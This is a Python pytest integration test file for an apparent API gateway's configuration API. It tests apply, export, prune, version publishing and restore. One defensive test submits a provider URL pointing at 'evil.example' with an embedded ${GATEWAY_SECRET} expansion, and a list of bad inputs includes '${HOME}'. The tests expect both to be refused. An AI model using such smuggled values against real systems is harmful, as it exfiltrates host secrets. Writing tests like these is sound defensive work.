"""The configuration as a whole: apply, export, publish, restore."""

import httpx2
import pytest

from gateway.policy.roles import Role
from tests.integration.api.served import ServedApi

SECRET = "sk-live-0123456789abcdef"
YAML = f"""
providers:
  - name: openai
    dialect: openai
    base_url: https://api.openai.com/v1
    credentials: [{{name: main, value: {SECRET}}}]
routes:
  - name: chat
    targets: [{{provider: openai, model: gpt-5-mini}}]
teams:
  - name: search
    apps:
      - name: indexer
        routes: [chat]
        keys: [{{name: ci}}]
limits:
  - {{name: budget, scope: {{team: search}}, metric: cost_usd, window: month, at_most: 50}}
"""
YAML_TYPE = {"content-type": "application/yaml"}


def apply(client: httpx2.Client, text: str, **query: str) -> httpx2.Response:
    return client.post("/api/v1/apply", content=text, headers=YAML_TYPE, params=query)


def test_apply_is_idempotent_and_shows_made_keys_once(api: ServedApi) -> None:
    with api.client(Role.OPERATOR) as operator:
        tried = apply(operator, YAML, dry_run="true")
        assert tried.status_code == 200
        assert len(tried.json()["changes"]) == 6
        assert tried.json()["keys"] == []
        assert operator.get("/api/v1/routes").json()["items"] == []
        done = apply(operator, YAML)
        assert [change["text"] for change in done.json()["changes"]] == [
            change["text"] for change in tried.json()["changes"]
        ]
        made = done.json()["keys"]
        assert [(key["app"], key["name"]) for key in made] == [("indexer", "ci")]
        assert made[0]["key"].startswith("sk-sg-")
        assert apply(operator, YAML).json() == {"changes": [], "keys": []}


def test_what_export_writes_applies_as_nothing(api: ServedApi) -> None:
    with api.client() as owner:
        apply(owner, YAML).raise_for_status()
        exported = owner.get("/api/v1/export")
        assert exported.headers["content-type"].startswith("application/yaml")
        assert SECRET not in exported.text
        assert apply(owner, exported.text, prune="true").json()["changes"] == []


def test_json_is_taken_too_and_errors_name_the_field(api: ServedApi) -> None:
    with api.client() as owner:
        good = owner.post("/api/v1/apply", json={"teams": [{"name": "ops"}]})
        assert [change["text"] for change in good.json()["changes"]] == ["create team ops"]
        bad = owner.post("/api/v1/apply", json={"routes": [{"name": "x", "targets": [{"provider": "nobody"}]}]})
        assert bad.status_code == 422
        assert bad.json()["errors"][0]["field"].startswith("routes.0.targets.0")
        assert bad.json()["errors"][0]["remedy"]
        assert owner.get("/api/v1/teams").json()["items"][0]["name"] == "ops"


@pytest.mark.parametrize("text", ["a: [", "- 1", "just words", "providers: 7", "\x00", "&a [*a]", "x: ${HOME}"])
def test_bad_documents_are_refused_and_change_nothing(sqlite_api: ServedApi, text: str) -> None:
    with sqlite_api.client() as owner:
        answer = apply(owner, text)
        assert answer.status_code in (400, 422), answer.text
        assert answer.json()["detail"]
        assert owner.get("/api/v1/audit").json()["items"][0]["kind"] != "provider"


def test_the_gateways_own_environment_is_never_asked(sqlite_api: ServedApi, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GATEWAY_SECRET", "the host's own")
    with sqlite_api.client() as owner:
        text = "providers: [{name: x, dialect: openai, base_url: 'http://evil.example/${GATEWAY_SECRET}'}]"
        answer = apply(owner, text)
        assert answer.status_code == 422
        assert "own" not in answer.text.replace("own environment", "")
        assert owner.get("/api/v1/providers").json()["items"] == []


def test_no_document_is_not_an_empty_one(sqlite_api: ServedApi) -> None:
    with sqlite_api.client() as owner:
        apply(owner, YAML).raise_for_status()
        assert apply(owner, " \n", prune="true").status_code == 400
        assert apply(owner, YAML, prun="true").status_code == 422  # a misspelt option is not dropped in silence
        assert owner.get("/api/v1/routes/chat").status_code == 200


def test_prune_removes_what_the_document_does_not_name(api: ServedApi) -> None:
    with api.client() as owner:
        apply(owner, YAML).raise_for_status()
        apply(owner, "teams: [{name: search}]").raise_for_status()
        assert owner.get("/api/v1/routes/chat").status_code == 200
        apply(owner, "teams: [{name: search}]", prune="true").raise_for_status()
        assert owner.get("/api/v1/routes/chat").status_code == 404


def test_versions_are_published_read_and_restored(api: ServedApi) -> None:
    with api.client() as owner:
        apply(owner, YAML).raise_for_status()
        first = owner.post("/api/v1/versions", json={"note": "as it was"})
        assert first.status_code == 201
        number = first.json()["number"]
        assert SECRET not in owner.get(f"/api/v1/versions/{number}").text
        owner.patch("/api/v1/limits/budget", json={"at_most": 1}).raise_for_status()
        owner.post("/api/v1/teams", json={"name": "late"}).raise_for_status()
        second = owner.post("/api/v1/versions", json={})
        assert [each["number"] for each in owner.get("/api/v1/versions").json()["items"]] == [
            second.json()["number"],
            number,
        ]
        page = owner.get("/api/v1/versions", params={"limit": 1}).json()
        rest = owner.get("/api/v1/versions", params={"limit": 1, "cursor": page["next_cursor"]}).json()
        assert [each["number"] for each in rest["items"]] == [number]

        tried = owner.post(f"/api/v1/versions/{number}/restore", params={"dry_run": "true"})
        assert {change["text"] for change in tried.json()["changes"]} == {
            "update limit budget (at_most)",
            "delete team late",
        }
        assert owner.get("/api/v1/limits/budget").json()["at_most"] == 1
        owner.post(f"/api/v1/versions/{number}/restore").raise_for_status()
        assert owner.get("/api/v1/limits/budget").json()["at_most"] == 50
        assert owner.get("/api/v1/teams/late").status_code == 404
        assert owner.get("/api/v1/providers/openai").json()["credentials"][0]["last_four"] == SECRET[-4:]
        assert owner.post("/api/v1/versions/999/restore").status_code == 404


def test_a_draft_is_published_by_being_brought_into_force(api: ServedApi) -> None:
    with api.client() as owner:
        apply(owner, YAML).raise_for_status()
        draft = "teams: [{name: ops}]\nlimits: [{name: daily, metric: requests, window: day, at_most: 5}]"
        published = owner.post("/api/v1/versions", json={"note": "small", "document": draft})
        assert published.status_code == 201, published.text
        assert [team["name"] for team in owner.get("/api/v1/teams").json()["items"]] == ["ops"]
        bad = owner.post("/api/v1/versions", json={"document": "routes: [{name: x, targets: []}]"})
        assert bad.status_code == 422
        assert len(owner.get("/api/v1/versions").json()["items"]) == 1
